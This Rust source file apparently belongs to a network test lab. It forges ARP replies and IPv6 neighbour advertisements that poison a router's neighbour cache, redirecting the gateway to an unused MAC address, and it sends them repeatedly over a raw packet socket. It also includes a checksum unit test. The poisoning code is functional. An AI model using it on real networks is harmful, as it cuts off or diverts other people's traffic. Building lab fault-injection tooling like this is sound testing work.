//! Somebody on the segment of an uplink who tells the router that the gateway is at another link-layer address (RFC 826,
//! RFC 4861), where nobody is.

use super::forgery::checksum;
use crate::error::{Context, LabError, Result};
use crate::family::Family;
use crate::ipv6;
use crate::lab::Lab;
use nix::ifaddrs::getifaddrs;
use nix::sys::socket::{AddressFamily, LinkAddr, MsgFlags, SockFlag, SockType, bind, send, socket};
use std::net::{Ipv4Addr, Ipv6Addr};
use std::os::fd::AsRawFd;
use std::thread;
use std::time::Duration;

type Mac = [u8; 6];

/// Where the gateway is said to be: a locally administered address that nobody has.
const NOWHERE: Mac = [0x02, 0, 0, 0, 0x66, 0x66];
const ARP: [u8; 2] = [0x08, 0x06];
/// Ethernet, IPv4, addresses of 6 and 4 octets, reply.
const REPLY: [u8; 8] = [0, 1, 0x08, 0x00, 6, 4, 0, 2];
const IPV6: [u8; 2] = [0x86, 0xdd];
const ICMPV6: u8 = 58;
const ADVERTISEMENT: u8 = 136;
/// From a router, asked for, and to override what was known.
const FLAGS: [u8; 4] = [0xe0, 0, 0, 0];

/// Says so `times`, so far apart.
///
/// # Errors
/// When there is no such Ethernet device, or a packet socket cannot be made or used.
pub fn poison(lab: &Lab, device: &str, family: Family, (times, every): (u32, Duration)) -> Result<()> {
    let (router, _) = lab.router.enter(|| ethernet(device))?;
    let uplink = lab.uplink(device)?;
    let frame = match family {
        Family::V4 => reply(router, uplink.gateway(), uplink.address()),
        Family::V6 => {
            let [gateway, address] = [ipv6::gateway(uplink), ipv6::address(uplink)]
                .map(|text| text.parse().map_err(|error| LabError::Unexpected(format!("{text}: {error}"))));
            advertisement(router, gateway?, address?)
        }
    };
    lab.provider(device)?.space.enter(|| {
        let (_, link) = ethernet("access")?;
        let mouth = socket(AddressFamily::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, None)
            .context(|| "make a packet socket".to_owned())?;
        bind(mouth.as_raw_fd(), &link).context(|| "bind a packet socket".to_owned())?;
        for time in 0..times {
            if time > 0 {
                thread::sleep(every);
            }
            send(mouth.as_raw_fd(), &frame, MsgFlags::empty()).context(|| "send what is forged".to_owned())?;
        }
        Ok(())
    })
}

fn ethernet(device: &str) -> Result<(Mac, LinkAddr)> {
    let mut all = getifaddrs().context(|| "list devices".to_owned())?.filter(|one| one.interface_name == device);
    let link = all.find_map(|one| one.address?.as_link_addr().copied());
    let with_address = link.and_then(|link| Some((link.addr()?, link)));
    with_address.ok_or_else(|| LabError::Unexpected(format!("{device}: no such Ethernet device")))
}

/// An ARP reply in its frame, for the router alone: the kernel trusts it for half a minute.
fn reply(router: Mac, gateway: Ipv4Addr, address: Ipv4Addr) -> Vec<u8> {
    let frame: [&[u8]; 8] = [&router, &NOWHERE, &ARP, &REPLY, &NOWHERE, &gateway.octets(), &router, &address.octets()];
    frame.concat()
}

/// A neighbour advertisement in its frame, for the router alone.
fn advertisement(router: Mac, gateway: Ipv6Addr, address: Ipv6Addr) -> Vec<u8> {
    let ends = [gateway.octets(), address.octets()].concat();
    let message = |sum: [u8; 2]| {
        let parts: [&[u8]; 6] = [&[ADVERTISEMENT, 0], &sum, &FLAGS, &gateway.octets(), &[2, 1], &NOWHERE];
        parts.concat()
    };
    let summed = [&ends[..], &[0, 0, 0, 32, 0, 0, 0, ICMPV6], &message([0; 2])].concat();
    let message = message(checksum(&summed).to_be_bytes());
    let frame: [&[u8]; 6] = [&router, &NOWHERE, &IPV6, &[0x60, 0, 0, 0, 0, 32, ICMPV6, 255], &ends, &message];
    frame.concat()
}

#[cfg(test)]
mod tests {
    use super::{NOWHERE, advertisement, checksum};

    #[test]
    fn an_advertisement_has_a_right_checksum() {
        let frame = advertisement(NOWHERE, "2001:db8::1".parse().unwrap(), "2001:db8::2".parse().unwrap());
        let summed = [&frame[22..54], &[0, 0, 0, 32, 0, 0, 0, 58][..], &frame[54..]].concat();
        assert_eq!((frame.len(), checksum(&summed)), (86, 0));
    }
}
